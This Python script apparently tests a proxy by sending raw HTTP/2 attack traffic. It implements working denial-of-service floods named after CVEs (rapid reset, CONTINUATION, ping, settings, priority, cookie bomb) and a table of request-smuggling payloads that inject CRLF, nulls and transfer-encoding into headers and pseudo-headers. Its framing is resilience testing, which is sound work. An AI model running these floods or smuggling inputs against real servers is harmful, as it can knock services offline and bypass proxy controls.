"""Run inside a workload: attacks on a proxy with raw HTTP/2 frames.

attacks.py HOST PORT AUTHORITY         requests that HTTP/1.1 would read as others
attacks.py HOST PORT AUTHORITY NAME... floods

For each attack one line: ``{"attack", "closed", "sent", "statuses", "refused"}``. ``closed``: the
proxy ended the connection before the attacker had sent all it would. ``sent`` are bytes,
``statuses`` of answers, ``refused`` counts streams that the proxy reset.
"""

import json
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field

from hpack import Decoder, Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS = 20.0
"""How long a proxy may take to end a connection; Envoy waits a second before it closes."""

MOST_BYTES = 64 << 20
Chunks = Iterator[bytes]


class Requests:
    """Requests of one connection. ``more`` are fields besides those that every request has."""

    def __init__(self, authority: str) -> None:
        self._encoder = Encoder()
        self._authority = authority

    def block(self, *more: tuple[str, str]) -> bytes:
        usual = [(":method", "GET"), (":path", "/"), (":scheme", "http")]
        found: bytes = self._encoder.encode([*usual, (":authority", self._authority), *more])
        return found

    def frame(self, stream: int, *more: tuple[str, str], end: bool = True) -> HeadersFrame:
        frame = HeadersFrame(stream, self.block(*more))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame


def rapid_reset(requests: Requests) -> Chunks:
    """CVE-2023-44487."""
    for stream in range(1, 40_000, 2):
        yield requests.frame(stream).serialize() + RstStreamFrame(stream, 8).serialize()


def continuation(requests: Requests) -> Chunks:
    """CVE-2024-30255: a header block that never ends."""
    yield HeadersFrame(1, requests.block()).serialize()
    while True:
        yield ContinuationFrame(1, b"\x00\x03abc\x04aaaa" * 100).serialize() * 10


def empty_continuation(requests: Requests) -> Chunks:
    yield HeadersFrame(1, requests.block()).serialize()
    while True:
        yield ContinuationFrame(1).serialize() * 50


def settings(_: Requests) -> Chunks:
    """CVE-2019-9515. The attacker does not read the acknowledgements."""
    while True:
        yield SettingsFrame(0, {3: 100}).serialize() * 50


def ping(_: Requests) -> Chunks:
    """CVE-2019-9512. The attacker does not read the answers."""
    while True:
        yield PingFrame(0, b"12345678").serialize() * 50


def empty_data(requests: Requests) -> Chunks:
    """CVE-2019-9518."""
    yield requests.frame(1, end=False).serialize()
    while True:
        yield DataFrame(1).serialize() * 50


def priority(_: Requests) -> Chunks:
    """CVE-2019-9513."""
    while True:
        yield PriorityFrame(1, stream_weight=1).serialize() * 50


def window_update(requests: Requests) -> Chunks:
    yield requests.frame(1, end=False).serialize()
    while True:
        yield WindowUpdateFrame(0, 1).serialize() * 50


def many_headers(requests: Requests) -> Chunks:
    """More than 100 fields in one request."""
    yield requests.frame(1, *((f"h{i}", "v") for i in range(150))).serialize()


def huge_headers(requests: Requests) -> Chunks:
    """70 KB in one request."""
    block = requests.block(*((f"h{i}", "v" * 1000) for i in range(70)))
    frames: list[Frame] = [HeadersFrame(1, block[:16_000], flags=["END_STREAM"])]
    frames += [
        ContinuationFrame(1, block[i : i + 16_000]) for i in range(16_000, len(block), 16_000)
    ]
    frames[-1].flags.add("END_HEADERS")
    yield b"".join(frame.serialize() for frame in frames)


def cookie_bomb(requests: Requests) -> Chunks:
    """CVE-2026-47774: one indexed cookie, many times, in each of many requests."""
    for stream in range(1, 2000, 2):
        yield requests.frame(stream, *[("cookie", "a=b")] * 4000).serialize()


def many_streams(requests: Requests) -> Chunks:
    """2000 requests at once, none of which ends."""
    for stream in range(1, 4001, 2):
        yield requests.frame(stream, end=False).serialize()


USUAL = {":method": "POST", ":path": "/first", ":scheme": "http"}
NEXT = "GET /smuggled HTTP/1.1\r\nhost: {authority}\r\n\r\n"
SMUGGLED: dict[str, dict[str, str]] = {
    "nothing": {},
    "transfer-encoding": {"transfer-encoding": "chunked"},
    "content-length 0": {"content-length": "0"},
    "content-length 5": {"content-length": "5"},
    "two lengths": {"content-length": "0,5"},
    "connection": {"connection": "transfer-encoding"},
    "upgrade": {"upgrade": "h2c"},
    "te": {"te": "chunked"},
    "line end in a value": {"x-a": "b\r\ntransfer-encoding: chunked"},
    "line feed in a value": {"x-a": "b\ntransfer-encoding: chunked"},
    "null in a value": {"x-a": "b\0c"},
    "line end in a name": {"x-a: b\r\ntransfer-encoding": "chunked"},
    "colon in a name": {"x-a:b": "c"},
    "space in a name": {"x a": "b"},
    "capitals in a name": {"X-A": "b"},
    "a name that is empty": {"": "b"},
    "line end in the path": {":path": "/ HTTP/1.1\r\nhost: a\r\n\r\nGET /smuggled"},
    "space in the path": {":path": "/a b"},
    "no slash in the path": {":path": "a"},
    "an empty path": {":path": ""},
    "line end in the method": {":method": "GET / HTTP/1.1\r\nhost: a\r\n\r\nGET"},
    "space in the method": {":method": "GET /smuggled"},
    "an empty method": {":method": ""},
    "line end in the authority": {":authority": "a\r\nx-b: c"},
    "a user in the authority": {":authority": "user@{authority}"},
    "an unknown pseudo header": {":evil": "b"},
    "a response's pseudo header": {":status": "200"},
}
"""What an HTTP/1.1 request made of it must not become; the body is ``NEXT``."""


def smuggle(name: str, host: str, port: int, authority: str) -> dict[str, object]:
    """On a connection of its own: the status, or that the stream or the connection ended."""
    fields = {**USUAL, ":authority": authority, **SMUGGLED[name]}
    filled = [(key, value.replace("{authority}", authority)) for key, value in fields.items()]
    # Pseudo headers stand first; otherwise their place would be what is refused.
    filled.sort(key=lambda field: not field[0].startswith(":"))
    opened = socket.create_connection((host, port), timeout=SECONDS)
    head = HeadersFrame(1, Encoder().encode(filled), flags=["END_HEADERS"])
    body = DataFrame(1, NEXT.replace("{authority}", authority).encode(), flags=["END_STREAM"])
    parts = (SettingsFrame(0), head, body)
    opened.sendall(PREFACE + b"".join(part.serialize() for part in parts))
    connection = Connection(opened)
    threading.Thread(target=connection.read, daemon=True).start()
    deadline = time.monotonic() + SECONDS
    found = outcome(connection)
    while found is None and time.monotonic() < deadline:
        time.sleep(0.01)
        found = outcome(connection)
    opened.close()
    return {"attack": name, "outcome": found}


def outcome(connection: "Connection") -> str | None:
    """``200``, ``reset`` or ``closed``; None as long as nothing has come."""
    decoder = Decoder()
    for kind, _, payload in connection.frames():
        if kind == HeadersFrame.type:
            return str(dict(decoder.decode(payload))[":status"])
        if kind == RstStreamFrame.type:
            return "reset"
        if kind == GoAwayFrame.type:
            return "closed"
    return "closed" if connection.closed.is_set() else None


ATTACKS: dict[str, Callable[[Requests], Chunks]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        continuation,
        empty_continuation,
        settings,
        ping,
        empty_data,
        priority,
        window_update,
        many_headers,
        huge_headers,
        cookie_bomb,
        many_streams,
    )
}
BLIND = ("settings", "ping")
ASKING = ("many_headers", "huge_headers", "many_streams")
"""Those that are answered; the others must end with the connection."""


@dataclass
class Connection:
    opened: socket.socket
    closed: threading.Event = field(default_factory=threading.Event)
    received: bytearray = field(default_factory=bytearray)

    def read(self) -> None:
        try:
            while data := self.opened.recv(65536):
                self.received += data
        except OSError:
            pass
        self.closed.set()

    def frames(self) -> Iterator[tuple[int, int, bytes]]:
        """Type, flags and payload of what came."""
        data = bytes(self.received)
        while len(data) >= 9 and len(data) >= 9 + (size := int.from_bytes(data[:3])):
            yield data[3], data[4], data[9 : 9 + size]
            data = data[9 + size :]


def run(name: str, host: str, port: int, authority: str) -> dict[str, object]:
    opened = socket.create_connection((host, port), timeout=SECONDS)
    connection = Connection(opened)
    opened.sendall(PREFACE + SettingsFrame(0).serialize())
    reader = threading.Thread(target=connection.read, daemon=True)
    if name not in BLIND:
        reader.start()
    sent = 0
    try:
        for chunk in ATTACKS[name](Requests(authority)):
            opened.sendall(chunk)
            sent += len(chunk)
            if connection.closed.is_set() or sent > MOST_BYTES:
                break
    except OSError:
        pass
    if name in BLIND:
        reader.start()
    closed = connection.closed.wait(2.0 if name in ASKING else SECONDS)
    opened.close()
    statuses, refused, decoder = [], 0, Decoder()
    for kind, _, payload in connection.frames():
        if kind == HeadersFrame.type:
            statuses += [value for key, value in decoder.decode(payload) if key == ":status"]
        refused += kind == RstStreamFrame.type
    return {
        "attack": name,
        "closed": closed,
        "sent": sent,
        "statuses": statuses,
        "refused": refused,
    }


def main(host: str, port: str, authority: str, *names: str) -> None:
    """Several attackers at once: a connection takes a second until the proxy has closed it."""
    attack = run if names else smuggle
    with ThreadPoolExecutor(4 if names else 16) as pool:
        found = pool.map(lambda name: attack(name, host, int(port), authority), names or SMUGGLED)
        for result in found:
            sys.stdout.write(json.dumps(result) + "\n")
            sys.stdout.flush()


if __name__ == "__main__":
    main(*sys.argv[1:])
